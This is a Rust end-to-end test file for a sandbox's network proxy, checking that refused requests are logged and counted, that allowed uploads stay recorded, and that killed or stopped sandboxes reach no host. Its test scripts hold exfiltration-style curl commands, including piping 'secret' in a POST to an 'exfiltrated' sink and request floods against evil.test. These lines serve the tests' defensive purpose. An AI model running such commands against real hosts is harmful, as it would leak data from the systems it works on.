//! Permitted requests are recorded, regardless of the number of refusals and of the fate of the
//! reader.

use std::path::PathBuf;
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

use e2e_tests::engine;
use e2e_tests::world::World;
use rustix::process::{Pid, Signal, kill_process};
use serde_json::Value;

use crate::command_line::project::{Project, assert_nothing_left};

fn signal(signal: Signal, child: &Child) {
    kill_process(Pid::from_child(child), signal).expect("our own child");
}

/// Waits until `done`.
async fn until(what: &str, mut done: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_mins(2);
    while !done() {
        assert!(Instant::now() < deadline, "{what}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

fn json_log(project: &Project) -> Vec<Value> {
    let log = project.output(&["logs", "--output", "json"]).stdout;
    let lines = log.lines();
    lines.map(|line| serde_json::from_str(line).expect("JSON")).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn refusals_do_not_displace_an_upload_from_the_log() {
    let project = Project::new();
    // Some 4 KiB each and all different, which exceeds the budget for refusals.
    let script = "
x=$(printf 'x%.0s' {1..3900})
for c in 1 2 3 4; do
  curl -s -o /dev/null \"http://evil.test/$c/[1-1600]/$x\" &
done
wait
curl -s -o /dev/null http://evil.test/exfiltrated
echo secret | curl -sS -T - -X POST https://open.test/sink/exfiltrated";
    let ended = project.run(script);
    assert_eq!((ended.code, ended.stdout.as_str()), (Some(0), "7"), "it arrived: {ended:?}");
    let text = project.output(&["logs"]).stdout;
    let marks: Vec<&str> = text.lines().filter(|line| line.starts_with("WARNING log truncated")).collect();
    assert_eq!(marks.len(), 2, "the control: there were more refusals than the budget allows: {marks:?}");
    assert!(
        !text.contains("http://evil.test/exfiltrated"),
        "the control: a request without its own budget was displaced from the log"
    );
    let upload = "allowed POST https://open.test/sink/exfiltrated -> 200";
    assert_eq!(text.lines().filter(|line| *line == upload).count(), 1, "{marks:?}");
    let json = json_log(&project);
    let found = json
        .iter()
        .filter(|entry| entry["decision"] == "allowed" && entry["target"] == "/sink/exfiltrated")
        .count();
    assert_eq!(found, 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn repeated_refusal_is_logged_as_some_lines_and_a_count() {
    let project = Project::new();
    let ended = project.run("curl -s -o /dev/null 'http://evil.test/same?[1-1000]' ; curl -s -o /dev/null $(printf 'http://evil.test/same %.0s' {1..1000})");
    assert_eq!(ended.code, Some(0), "{ended:?}");
    let text = project.output(&["logs", "--blocked"]).stdout;
    let line = "BLOCKED GET http://evil.test/same -> 403 [reason: host]";
    let one_by_one = text.lines().filter(|found| *found == line).count();
    assert!((1..100).contains(&one_by_one), "{one_by_one}");
    let different = text.lines().filter(|line| line.contains("/same?")).count();
    assert_eq!(different, 1000, "the control: different refusals are not folded");
    let entries = json_log(&project);
    let same = entries.iter().filter(|entry| entry["target"] == "/same");
    let happened: u64 = same.map(|entry| entry["repeated"].as_u64().unwrap_or(1)).sum();
    assert_eq!(happened, 1000, "none is forgotten");
    assert!(text.contains(" [reason: host] [repeated: "), "{}", text.len());
}

#[tokio::test(flavor = "multi_thread")]
async fn upload_of_a_killed_sandbox_is_cut_off_and_logged() {
    let prefix = "e2e-record-killed";
    let project = Project::with_prefix(prefix);
    let script = "
(while echo more; do sleep 0.05; done) 2>/dev/null | curl -sS -T - -X POST https://open.test/sink/upload
touch cut
sleep 600";
    let mut child = project
        .sandbox(&["run", "--", "bash", "-c", script])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("the sandbox command");
    let open = "open POST https://open.test/sink/upload -> in progress";
    until("the upload is recorded while it continues", || {
        project.output(&["logs"]).stdout.lines().any(|line| line == open)
    })
    .await;
    assert!(!project.path().join("cut").exists(), "the control: it continues");
    signal(Signal::KILL, &child);
    child.wait().expect("our own child");
    until("the upload ends with its owner", || project.path().join("cut").exists()).await;
    let entries = json_log(&project);
    let opened = entries.iter().filter(|entry| entry["event"] == "request_open").count();
    assert_eq!(opened, 1);
    let next = project.run("true");
    assert_eq!(next.code, Some(0), "{next:?}");
    assert_nothing_left(prefix).await;
}

/// A script that requests `host` until there is a file `enough`, and writes the status of each
/// response to `codes`. It gives each up after `limit` seconds, and then waits for `pause`.
fn requests(host: &str, limit: f64, pause: f64) -> String {
    format!(
        "
until [ -e enough ]; do
  curl -s -o /dev/null -w '%{{http_code}}\\n' --max-time {limit} https://{host}/ >> codes
  sleep {pause}
done"
    )
}

/// How many requests of [`requests`] were answered with `code`; `000` is no answer.
fn answers(project: &Project, code: &str) -> usize {
    let codes = std::fs::read_to_string(project.path().join("codes")).unwrap_or_default();
    codes.lines().filter(|line| *line == code).count()
}

/// `KILLS` is the number of kills.
#[tokio::test(flavor = "multi_thread")]
async fn task_of_a_killed_sandbox_reaches_nothing() {
    let prefix = "e2e-record-egress";
    let host = "killed.test";
    let project = Project::with_prefix(prefix);
    project.write(".sandbox/network-allowlist.yaml", &format!("domains: [{host}]\n"));
    let seen = || World::shared().seen(host).len();
    let kills = std::env::var("KILLS").map_or(3, |kills| kills.parse().expect("a number"));
    let mut late = 0;
    for _ in 0..kills {
        World::shared().forget(host);
        project.write("codes", "");
        let mut child = project
            .sandbox(&["run", "--", "bash", "-c", &requests(host, 1.0, 0.0)])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("the sandbox command");
        until("the control: it reaches the host", || answers(&project, "200") > 0).await;
        // tidy: sleep: the moment of the kill.
        tokio::time::sleep(Duration::from_millis(rand::random_range(0..500))).await;
        let proxy = PathBuf::from(format!("/proc/{}", engine::process(prefix, "proxy", "Pid").await));
        assert!(proxy.exists(), "the control: the proxy is visible");
        signal(Signal::KILL, &child);
        child.wait().expect("our own child");
        let before = seen();
        until("the proxy ends", || !proxy.exists()).await;
        let failed = answers(&project, "000");
        until("the request in progress fails", || answers(&project, "000") > failed).await;
        let reached = seen();
        late += reached - before;
        until("the task continues its requests", || answers(&project, "000") > failed + 2).await;
        assert_eq!(seen(), reached, "no request passes without its proxy");
        let next = project.run("true");
        assert_eq!(next.code, Some(0), "{next:?}");
        assert_eq!(seen(), reached, "nor until the next start");
        assert_nothing_left(prefix).await;
    }
    eprintln!("{kills} kills, {late} requests arrived between a kill and the end of its proxy");
}

#[tokio::test(flavor = "multi_thread")]
async fn task_of_a_stopped_sandbox_reaches_nothing() {
    let prefix = "e2e-record-stopped";
    let project = Project::with_prefix(prefix);
    project.write(".sandbox/network-allowlist.yaml", "domains: [stopped.test]\n");
    // So few that no buffer between the proxy and its owner fills.
    let child = project
        .sandbox(&["run", "--", "bash", "-c", &requests("stopped.test", 5.0, 0.2)])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("the sandbox command");
    let seen = || World::shared().seen("stopped.test").len();
    let refused = || answers(&project, "503");
    until("the control: it reaches the host", || seen() > 3).await;
    signal(Signal::STOP, &child);
    until("it is refused", || refused() >= 3).await;
    let reached = seen();
    let before = refused();
    until("the task continues its requests", || refused() > before + 10).await;
    assert_eq!(seen(), reached, "no request passed meanwhile");
    signal(Signal::CONT, &child);
    until("the task reaches the host again", || seen() > reached + 3).await;
    project.write("enough", "");
    let ended = tokio::task::spawn_blocking(move || child.wait_with_output()).await;
    let ended = ended.expect("a thread").expect("our own child");
    assert_eq!(ended.status.code(), Some(0), "{ended:?}");
    let text = project.output(&["logs"]).stdout;
    let allowed = text.lines().filter(|line| line.starts_with("allowed GET https://stopped.test/")).count();
    assert_eq!(allowed, seen(), "every request that arrived is recorded");
    assert_nothing_left(prefix).await;
}
